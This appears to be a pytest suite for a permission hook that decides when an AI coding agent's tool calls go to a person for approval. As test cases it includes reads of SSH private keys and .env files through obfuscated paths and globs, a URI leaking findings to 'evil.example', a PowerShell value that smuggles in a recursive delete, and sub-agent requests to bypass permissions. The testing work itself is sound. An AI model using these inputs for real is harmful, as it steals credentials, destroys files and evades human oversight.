"""From a step of an agent to the question for a person, with what cannot be put to them."""

import json

import pytest
from msgspec.structs import replace

from hub.cli.hook_client import PASSED_BYTES_MAX
from hub.cli.hook_shorten import LIST_MAX, shorten
from hub.contract.permission import TEXT_CHARS_MAX, Act
from hub.io.agents.hooks.asking import about_to, call_name, first_word, request_of
from hub.io.agents.hooks.claude_code import CLAUDE_CODE
from hub.io.agents.hooks.cursor import SHELL
from hub.io.agents.hooks.dialects import DIALECTS
from hub.io.agents.hooks.step import Dialect, HookStep

LONG = "x" * (TEXT_CHARS_MAX + 100)


def step(tool: str, given: dict[str, object], **more: object) -> HookStep:
    said = {"hook_event_name": "PermissionRequest", "session_id": "s", "cwd": "/w", "tool_name": tool}
    found = CLAUDE_CODE.read(json.dumps({**said, "tool_input": given, **more}).encode())
    assert isinstance(found, HookStep)
    return found


def test_a_long_file_is_shown_in_part_and_says_how_much_is_left_out() -> None:
    request = request_of(CLAUDE_CODE, step("Write", {"file_path": "/w/a", "content": LONG}), 600)
    assert request is not None
    assert (request.act, len(request.text), request.left_out) == (Act.EDIT, TEXT_CHARS_MAX, 100)


@pytest.mark.parametrize(
    ("tool", "given", "least"),
    [
        ("Write", {"file_path": "/w/a", "content": "x" * 57_534}, 57_534 - 12_000),
        ("MultiEdit", {"file_path": "/w/a", "edits": [{"old_string": "a", "new_string": "b" * 900}] * 80}, 1),
        ("mcp__x__run", {"command": "ls", "then": "x" * 57_534}, 57_534 - 12_000),
    ],
)
def test_what_was_cut_on_the_way_here_counts_as_left_out(tool: str, given: dict[str, object], least: int) -> None:
    whole = {"hook_event_name": "PermissionRequest", "session_id": "s", "cwd": "/w", "tool_name": tool}
    passed = shorten(json.dumps({**whole, "tool_input": given}).encode(), PASSED_BYTES_MAX)
    read = CLAUDE_CODE.read(passed)
    assert isinstance(read, HookStep)
    request = request_of(CLAUDE_CODE, replace(read, shortened=True), 600)
    assert request is not None
    assert request.left_out >= least


def test_a_command_that_was_cut_on_the_way_here_is_put_to_nobody() -> None:
    cut = step("Bash", {"command": f"ls {'x' * 12_000} … 500 more characters"})
    assert request_of(CLAUDE_CODE, replace(cut, shortened=True), 600) is None


@pytest.mark.parametrize(
    ("tool", "given"),
    [
        ("Bash", {"command": LONG}),
        ("Bash", {"command": ""}),
        ("Bash", {}),
        ("Write", {"content": "x"}),
        ("AskUserQuestion", {"questions": []}),
        ("AskUserQuestion", {"questions": [{"question": "Which?", "options": [{"label": "a"}, {"label": "a"}]}]}),
    ],
)
def test_what_nobody_could_judge_is_left_to_the_agents_own_dialog(tool: str, given: dict[str, object]) -> None:
    assert request_of(CLAUDE_CODE, step(tool, given), 600) is None


def test_a_use_of_a_tool_is_known_again_by_what_it_was_given() -> None:
    one = call_name(step("Bash", {"command": "ls", "timeout": 5}))
    assert one == call_name(step("Bash", {"timeout": 5, "command": "ls"}, tool_use_id="toolu_1"))
    assert one != call_name(step("Bash", {"command": "ls -a", "timeout": 5}))
    assert one != call_name(step("PowerShell", {"command": "ls", "timeout": 5}))


@pytest.mark.parametrize(
    ("command", "says", "why"),
    [
        ("git status", "none", ""),
        ("npm test", "none", ""),
        ("acme --version", "none", ""),
        ("acme sync everything", "ask", "Pulse: it is unknown what acme would do."),
        ("rm -rf build", "ask", "Pulse: it would delete something."),
    ],
)
def test_what_is_harmless_goes_on_and_all_else_asks_first(command: str, says: str, why: str) -> None:
    before = CLAUDE_CODE.read(
        json.dumps(
            {"hook_event_name": "PreToolUse", "cwd": "/w", "tool_name": "Bash", "tool_input": {"command": command}}
        ).encode()
    )
    assert isinstance(before, HookStep)
    word = first_word(CLAUDE_CODE, before, stopped=lambda: False)
    assert (word.says, word.reason) == (says, why)
    stopped = first_word(CLAUDE_CODE, before, stopped=lambda: True)
    assert stopped.says == ("none" if says == "none" else "deny")


def told_before(tool: str, given: dict[str, object], dialect: Dialect = CLAUDE_CODE, **more: object) -> str:
    said = {"hook_event_name": dialect.before, "cwd": "/w", "tool_name": tool, "tool_input": given, **more}
    before = dialect.read(json.dumps(said).encode())
    assert isinstance(before, HookStep)
    return first_word(dialect, before, stopped=lambda: False).says


@pytest.mark.parametrize("dialect", DIALECTS.values(), ids=DIALECTS)
def test_what_an_agent_brings_along_itself_asks_nothing(dialect: Dialect) -> None:
    assert bool(dialect.own_tools) is (dialect.before != SHELL), "Cursor asks about commands and servers' tools alone"
    if dialect.before and dialect.before != SHELL:
        assert {told_before(name, {}, dialect) for name in dialect.own_tools} == {"none"}


@pytest.mark.parametrize("mode", ["bypassPermissions", "default"])
@pytest.mark.parametrize("tool", ["Frobnicate", "mcp__x__frob", "mcp__pulse__answer", "todowrite", "mcp__x__Task"])
def test_a_tool_that_is_not_known_asks_in_every_mode(tool: str, mode: str) -> None:
    assert told_before(tool, {"a": 1}, permission_mode=mode) == "ask"


@pytest.mark.parametrize("mode", ["bypassPermissions", "acceptEdits", "default"])
@pytest.mark.parametrize("command", ["tar xf a.tgz", "patch -p1 < a.patch", "git apply a.patch", "cp -r t/. ."])
def test_names_that_only_an_archive_knows_are_asked_about_in_every_mode(command: str, mode: str) -> None:
    assert told_before("Bash", {"command": command}, permission_mode=mode) == "ask"


def test_a_helper_that_asks_less_than_its_agent_is_asked_about() -> None:
    started = {"description": "Look", "prompt": "x", "subagent_type": "Explore", "model": "haiku"}
    assert told_before("Agent", {**started, "run_in_background": True, "isolation": "worktree"}) == "none"
    assert told_before("Task", {"prompt": "x", "mode": "plan"}) == "none"
    assert told_before("task", {"prompt": "x", "mode": "background"}, DIALECTS["copilot"]) == "none"
    assert told_before("Task", {"prompt": "x", "mode": "bypassPermissions"}) == "ask"


def test_a_servers_tool_whose_input_was_cut_asks() -> None:
    before = CLAUDE_CODE.read(
        b'{"hook_event_name": "PreToolUse", "tool_name": "mcp__gh__get_issue", "tool_input": {"n": 1}}'
    )
    assert isinstance(before, HookStep)
    assert first_word(CLAUDE_CODE, before, stopped=lambda: False).says == "none"
    assert first_word(CLAUDE_CODE, replace(before, shortened=True), stopped=lambda: False).says == "ask"


LONG_WAY = "./" * 60 + ".git/hooks/pre-commit"


def test_a_file_whose_name_was_cut_on_the_way_asks_and_is_put_to_nobody() -> None:
    edits = [{"old_string": "a" * 2_000, "new_string": "b" * 2_000} for _ in range(LIST_MAX)]
    said = {"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/w", "tool_name": "MultiEdit"}
    given = json.dumps({**said, "tool_input": {"file_path": LONG_WAY, "edits": edits}}).encode()
    before = CLAUDE_CODE.read(shorten(given, PASSED_BYTES_MAX))
    assert isinstance(before, HookStep)
    assert "hooks" not in str(before.input["file_path"])
    before = replace(before, shortened=True)
    assert first_word(CLAUDE_CODE, before, stopped=lambda: False).says == "ask"
    assert request_of(CLAUDE_CODE, before, 600) is None


@pytest.mark.parametrize(
    ("tool", "given"),
    [
        ("Write", {"content": "x"}),
        ("Write", {"file_path": ["a"], "content": "x"}),
        ("Write", {"file_path": "a\0b", "content": "x"}),
        ("Read", {"file_path": "src/.env/"}),
        ("NotebookRead", {"notebook_path": "/home/anna/.ssh/id_rsa"}),
        ("LSP", {"operation": "hover", "filePath": "/home/anna/.ssh/id_rsa"}),
        ("ReadMcpResourceTool", {"server": "fs", "uri": "file:///home/anna/.ssh/id%5Frsa"}),
        ("Grep", {"pattern": ".", "path": ".", "glob": ".env*"}),
        ("Grep", {"pattern": ".", "glob": "*.{txt,pem}"}),
        ("Grep", {"pattern": ".", "glob": "**/{a,{b,.env}}"}),
        ("Grep", {"pattern": ".", "glob": "*.py,.e?v"}),
        ("Grep", {"pattern": ".", "glob": "*.py id_*"}),
        ("Grep", {"pattern": ".", "glob": "{" + "x," * 100 + ".env}"}),
        ("Grep", {"pattern": ".", "glob": "{a,b}" * 40}),
        ("Grep", {"pattern": ".", "glob": "!zz .env", "output_mode": "content"}),
        ("Grep", {"pattern": ".", "glob": "!zz,.env"}),
        ("Grep", {"pattern": ".", "glob": " !zz\t!{a,b},.env"}),
        ("Grep", {"pattern": ".", "glob": "!{,.env"}),
        ("Grep", {"pattern": ".", "path": ["/home/anna/.ssh"]}),
        ("Read", {"file_path": "a.py", "path": "/home/anna/.ssh/id_rsa"}),
        ("Read", {"file_path": "a.py", "zap": 1}),
        ("Read", {"file_path": ["/home/anna/.ssh/id_rsa"]}),
        ("Read", {}),
        ("LS", {"path": "src", "paths": ["/home/anna/.ssh"]}),
        ("Glob", {"pattern": "*.py", "root": "/"}),
        ("WebFetch", {"url": ["https://example.com"]}),
        ("Agent", {"prompt": "x", "permissions": "all"}),
        ("Agent", {"prompt": "x", "cwd": "/"}),
        ("Agent", {"prompt": "x", "tools": ["*"], "dangerously": True}),
        ("Skill", {"skill": "pdf", "allowed_tools": ["*"]}),
        ("EnterWorktree", {"path": "/root"}),
        ("ExitWorktree", {"action": "remove", "discard_changes": True}),
        ("ReadMcpResourceTool", {"server": "x", "uri": "https://evil.example/?leak=what+was+found"}),
        ("ReadMcpResourceTool", {"server": "x", "uri": "vault://kv/prod/db"}),
        ("ReadMcpResourceTool", {"server": "x", "uri": "notes://team/secrets"}),
        ("ReadMcpResourceTool", {"server": "x"}),
        ("Grep", {"pattern": "KEY", "path": "/home/anna"}),
        ("Task", {"prompt": "x", "mode": "BypassPermissions"}),
        ("Agent", {"prompt": "x", "isolation": "remote"}),
        ("Task", {"prompt": "x", "mode": "default", "permissionMode": "bypassPermissions"}),
    ],
)
def test_what_an_agents_own_tool_would_touch_is_looked_at_in_every_form(tool: str, given: dict[str, object]) -> None:
    assert told_before(tool, given, permission_mode="bypassPermissions") == "ask"


@pytest.mark.parametrize(
    ("name", "tool", "given"),
    [
        ("gemini", "read_many_files", {"paths": ["src"], "include": [".env"]}),
        ("gemini", "read_file", {"absolute_path": "/home/anna/.ssh/id_rsa"}),
        ("gemini", "grep_search", {"pattern": ".", "include": ".env"}),
        ("copilot", "grep", {"pattern": ".", "glob": ".env"}),
        ("copilot", "view", {"path": ".env/"}),
        ("copilot", "view", {"path": "a.py", "zap": 1}),
        ("copilot", "grep", {"pattern": ".", "glob": "!zz .env"}),
        ("copilot", "task", {"prompt": "x", "permissions": "all"}),
        ("copilot", "powershell", {"command": 'echo "\\" ; Remove-Item -Recurse src ; echo "'}),
        ("gemini", "read_many_files", {"include": ".env"}),
        ("gemini", "read_file", {"file_path": "a.py", "absolute_path": "/home/anna/.ssh/id_rsa"}),
        ("gemini", "list_directory", {"dir_path": "src", "zap": 1}),
        ("gemini", "activate_skill", {"name": "pdf", "tools": ["*"]}),
        ("codex", "view_image", {"path": "/home/anna/.ssh/id_rsa"}),
        ("codex", "read_mcp_resource", {"server": "fs", "uri": "file:///home/anna/.ssh/id_rsa"}),
    ],
)
def test_so_is_it_with_other_agents(name: str, tool: str, given: dict[str, object]) -> None:
    assert told_before(tool, given, DIALECTS[name]) == "ask"


@pytest.mark.parametrize(
    "given",
    [
        {"pattern": "a secret", "output_mode": "content", "-n": True, "-C": 3, "head_limit": 20, "path": "src"},
        {"pattern": "a secret", "path": None},
        {"pattern": "x", "glob": "*.py,!{a,b}_test.py !.env"},
        {"pattern": "x", "glob": "*.{py,md}"},
        {"pattern": "x", "glob": "**/*"},
        {"pattern": "x", "glob": "!.env"},
    ],
)
def test_a_search_in_the_project_asks_nothing(given: dict[str, object]) -> None:
    assert told_before("Grep", given, permission_mode="bypassPermissions") == "none"


@pytest.mark.parametrize(
    ("name", "tool", "given"),
    [
        ("claude-code", "Read", {"file_path": "/w/a.py", "offset": 5, "limit": 100}),
        ("claude-code", "Glob", {"pattern": "**/*.py", "path": "/w"}),
        ("claude-code", "ReadMcpResourceTool", {"server": "docs", "uri": "docs://guide/a"}),
        ("claude-code", "TodoWrite", {"todos": [{"content": "x", "status": "pending", "activeForm": "x"}]}),
        ("claude-code", "PowerShell", {"command": r"Get-ChildItem src\app", "description": "List files"}),
        ("copilot", "view", {"path": "/w/a.py", "view_range": [1, 20]}),
        ("copilot", "task", {"description": "x", "prompt": "x", "agent_type": "explore"}),
        ("gemini", "read_file", {"file_path": "/w/a.py", "start_line": 1, "end_line": 20}),
        ("gemini", "grep_search", {"pattern": "x", "dir_path": "src", "include_pattern": "*.py", "context": 2}),
        ("gemini", "read_many_files", {"include": ["src/**/*.py"], "exclude": ["a.py"]}),
        ("gemini", "run_shell_command", {"command": "git status", "wait_for_previous": True}),
        ("codex", "view_image", {"path": "docs/a.png"}),
    ],
)
def test_an_ordinary_call_of_an_agents_own_tool_asks_nothing(name: str, tool: str, given: dict[str, object]) -> None:
    assert told_before(tool, given, DIALECTS[name]) == "none"


@pytest.mark.parametrize("folder", ["/var/www/shop", "/home/anna/shop", "/home/anna/.codex/worktrees/1a2b/shop"])
def test_a_search_and_an_edit_in_a_project_ask_nothing_wherever_it_lies(folder: str) -> None:
    assert told_before("Grep", {"pattern": "x"}, cwd=folder) == "none"
    assert told_before("Write", {"file_path": f"{folder}/src/a.py", "content": "x"}, cwd=folder) == "none"


@pytest.mark.parametrize("before", [" ", "\t", "\n", "\u00a0", "\u2028", "\ufeff", ""])
@pytest.mark.parametrize("tool", ["Write", "Edit", "Read"])
def test_a_name_that_an_agent_trims_to_another_asks_and_is_covered_by_nothing(tool: str, before: str) -> None:
    after = "" if before else "\u3000"
    given: dict[str, object] = {
        "file_path": f"{before}/home/me/.bashrc{after}",
        "content": "x",
        "old_string": "a",
        "new_string": "b",
    }
    asked = replace(step(tool, given), led_to=(), mode="bypassPermissions")
    assert first_word(CLAUDE_CODE, asked, stopped=lambda: False).says == "ask"
    assert about_to(CLAUDE_CODE, asked) is None
    plain = replace(step("Write", {"file_path": "a b.txt", "content": "x"}), led_to=(), mode="acceptEdits")
    assert about_to(CLAUDE_CODE, plain) is not None
    assert first_word(CLAUDE_CODE, plain, stopped=lambda: False).says != "ask"
